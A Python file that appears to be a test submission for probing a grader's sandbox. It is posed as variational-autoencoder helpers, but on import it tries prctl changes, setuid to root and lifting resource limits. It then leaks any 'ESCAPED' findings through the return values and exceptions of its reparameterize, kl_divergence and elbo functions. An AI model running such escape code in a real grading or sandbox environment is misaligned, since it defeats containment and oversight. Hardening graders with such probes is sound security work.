"""Tries to get back what was taken from it: its user, limits, privileges, its death with the grader."""
# expects: full

import ctypes
import os
import resource

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    libc = ctypes.CDLL(None)
    PR_SET_PDEATHSIG, PR_GET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_SECCOMP, PR_SET_KEEPCAPS = 1, 2, 4, 22, 8
    PR_SET_NO_NEW_PRIVS, PR_GET_NO_NEW_PRIVS, PR_SET_SUBREAPER, PR_CAP_AMBIENT, PR_SET_PTRACER = (
        38,
        39,
        36,
        47,
        0x59616D61,
    )
    before, user = {k: resource.getrlimit(k) for k in range(16)}, os.getuid()
    for option, value in (
        (PR_SET_PDEATHSIG, 0),
        (PR_SET_DUMPABLE, 1),
        (PR_SET_SECCOMP, 0),
        (PR_SET_KEEPCAPS, 1),
        (PR_SET_NO_NEW_PRIVS, 0),
        (PR_SET_SUBREAPER, 1),
        (PR_CAP_AMBIENT, 2),
        (PR_SET_PTRACER, -1),
    ):
        libc.prctl(option, ctypes.c_long(value), *map(ctypes.c_long, (0, 0, 0)))
    for step in (os.setuid, os.seteuid, os.setgid, os.setegid):
        tried(step, 0)
    tried(os.setresuid, 0, 0, 0)
    tried(os.setgroups, [0])
    for kind, (_, hard) in before.items():
        tried(resource.setrlimit, kind, (-1, -1))
        if hard != -1 and resource.getrlimit(kind)[1] == -1:
            publish(f"ESCAPED limit {kind}")
    signal = ctypes.c_int(9)
    libc.prctl(PR_GET_PDEATHSIG, ctypes.byref(signal), None, None, None)
    if signal.value == 0:
        publish("ESCAPED no longer dies with the grader")
    if user and 0 in (*os.getresuid(), *os.getresgid()):
        publish("ESCAPED root again")
    if libc.prctl(PR_GET_NO_NEW_PRIVS, *map(ctypes.c_long, (0, 0, 0, 0))) == 0:
        publish("ESCAPED new privileges")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
